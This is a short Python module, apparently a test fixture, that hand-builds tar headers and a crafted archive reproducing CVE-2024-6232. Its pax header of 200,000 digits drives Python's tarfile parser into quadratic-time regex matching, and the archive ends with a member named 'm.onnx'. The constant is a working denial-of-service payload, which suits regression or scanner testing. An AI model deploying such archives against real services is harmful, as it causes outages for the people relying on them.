"""Tar archives written block by block, unlike any library's."""

from __future__ import annotations


def block(kind: bytes, size: int, name: bytes = b"./pax") -> bytes:
    """Return a tar header with its checksum."""
    header = bytearray(512)
    header[: len(name)] = name
    header[124:136] = b"%011o\0" % size
    header[156:157] = kind
    header[257:263] = b"ustar\0"
    header[148:156] = b"%06o\0 " % (sum(header) + 8 * ord(" "))
    return bytes(header)


def padded(data: bytes) -> bytes:
    """Return data, filled with zeros to whole blocks."""
    return data + bytes(-len(data) % 512)


# The pax header of CVE-2024-6232: digits, which a regular expression of tarfile reads in quadratic time.
DIGITS = block(b"x", 200_000) + padded(b"1" * 200_000) + block(b"0", 0, b"m.onnx")
